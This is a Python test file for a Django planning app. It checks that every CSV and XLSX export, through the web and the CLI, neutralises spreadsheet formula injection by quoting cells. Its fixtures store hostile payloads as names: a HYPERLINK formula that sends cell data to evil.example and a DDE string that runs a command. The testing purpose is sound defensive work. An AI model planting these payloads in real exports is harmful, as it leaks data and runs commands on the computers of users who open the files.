"""Every CSV and XLSX export, through its real route, with formulas stored as names: a commune
named ``=HYPERLINK(…)``, a custom territory named like a DDE payload, an action titled
``=1+1``. No cell of any export is a live formula; the text is there, quoted (OWASP, CSV
injection)."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from typer.testing import CliRunner

from sdsf.cli.main import app
from sdsf.parameters.indicators import catalogue
from sdsf.web.apps.accounts.permissions import SYSTEM
from sdsf.web.apps.documents.models import DocumentJob
from sdsf.web.apps.documents.services import build, render
from sdsf.web.apps.schemes.services import current_scheme
from sdsf.web.apps.territories.models import Territory
from sdsf.web.apps.territories.services import create_custom_territory
from tests.conftest import DEMO_DEPARTEMENT as DEP

pytestmark = pytest.mark.django_db

COMMUNE = "44109"  # Nantes
EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Voir")'
DDE = "+cmd|' /C calc'!A0"
ACTION = "=1+1"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d[\d\u202f\u00a0]*(?:[.,]\d+)?")


@pytest.fixture
def evil():
    """The names and the title, stored; rolled back with the test."""
    Territory.objects.filter(level="commune", code=COMMUNE).update(name=EVIL)
    custom = create_custom_territory(DDE, DEP, [COMMUNE, "44143"], user=SYSTEM)
    action = current_scheme(DEP).actions.order_by("number").first()
    action.title = ACTION
    action.save()
    return custom


def _live(text: object) -> bool:
    """Whether a spreadsheet would run this text as a formula."""
    return isinstance(text, str) and text.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(text)


def _body(response) -> bytes:
    assert response.status_code == 200, response
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _csv_cells(text: str) -> list[str]:
    assert text.startswith("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text[1:]), delimiter=";") for cell in row]
    assert [cell for cell in cells if _live(cell)] == []
    return cells


def _xlsx_cells(data: bytes) -> list[object]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if _live(cell.value)] == []
    assert any(isinstance(cell.value, float | int) and cell.data_type == "n" for cell in cells)
    return [cell.value for cell in cells]


def _cells(fmt: str, data: bytes) -> list[object]:
    return _xlsx_cells(data) if fmt == "xlsx" else list(_csv_cells(data.decode("utf-8")))


def test_web_exports_are_neutral(client, evil):
    client.force_login(get_user_model().objects.get(username="demo@sdsf.local"))
    theme = next(iter(catalogue().themes))
    for fmt in ("csv", "xlsx"):
        # the département page, communes and custom territories
        cells = _cells(fmt, _body(client.get(f"/departements/{DEP}/export.{fmt}")))
        assert "'" + EVIL in cells and EVIL not in cells
        cells = _cells(
            fmt, _body(client.get(f"/departements/{DEP}/export.{fmt}?niveau=territoire"))
        )
        assert "'" + DDE in cells and DDE not in cells
        # a diagnostic theme, communes and custom territories
        url = f"/departements/{DEP}/diagnostic/{theme}/export.{fmt}"
        cells = _cells(fmt, _body(client.get(url)))
        assert "'" + EVIL in cells and EVIL not in cells
        cells = _cells(fmt, _body(client.get(url + "?niveau=territoire")))
        assert "'" + DDE in cells and DDE not in cells
        # the fiche: the territory's name heads its column
        cells = _cells(fmt, _body(client.get(f"/territoires/commune/{COMMUNE}/export.{fmt}")))
        assert "'" + EVIL[:40] in cells and EVIL[:40] not in cells
        cells = _cells(fmt, _body(client.get(f"/territoires/territoire/{evil.code}/export.{fmt}")))
        assert "'" + DDE in cells and DDE not in cells
        # the priorities, by commune
        cells = _cells(fmt, _body(client.get(f"/departements/{DEP}/priorites/export.{fmt}")))
        assert "'" + EVIL in cells and EVIL not in cells
    # the annual review
    cells = _xlsx_cells(_body(client.get(f"/departements/{DEP}/schema/bilan-2025.xlsx")))
    assert "'" + ACTION in cells and ACTION not in cells


def test_schema_workbook_is_neutral(evil):
    document = build(DocumentJob.SCHEMA, DEP)
    cells = _xlsx_cells(render(document, "xlsx"))
    assert "'" + ACTION in cells and ACTION not in cells


def test_cli_exports_are_neutral(evil, tmp_path, monkeypatch):
    runner = CliRunner()
    couverture = ["couverture", "--departement", DEP, "--format", "csv", "--niveau"]
    for command, name in [
        ([*couverture, "commune"], EVIL),
        ([*couverture, "territoire"], DDE),
        (["priorites", "--departement", DEP, "--format", "csv"], EVIL),
    ]:
        result = runner.invoke(app, command)
        assert result.exit_code == 0, result.output
        cells = _csv_cells(result.output)
        assert "'" + name in cells and name not in cells
    # the diagnostic files of a territory: its name heads a column, communes in the rows (the
    # maps, slow to draw and without cells, left out)
    monkeypatch.setattr("sdsf.web.apps.diagnostic.export.theme_map", lambda *args: None)
    result = runner.invoke(
        app,
        ["diagnostic", "--departement", DEP, "--territoire", evil.code, "--sortie", str(tmp_path)],
    )
    assert result.exit_code == 0, result.output
    (workbook,) = tmp_path.glob("*.xlsx")
    cells = _xlsx_cells(workbook.read_bytes())
    assert "'" + EVIL in cells and "'" + DDE in cells
    cells = [
        cell
        for path in sorted(tmp_path.glob("*.csv"))
        for cell in _csv_cells(path.read_text(encoding="utf-8"))
    ]
    assert "'" + EVIL in cells and "'" + DDE in cells
    assert EVIL not in cells and DDE not in cells
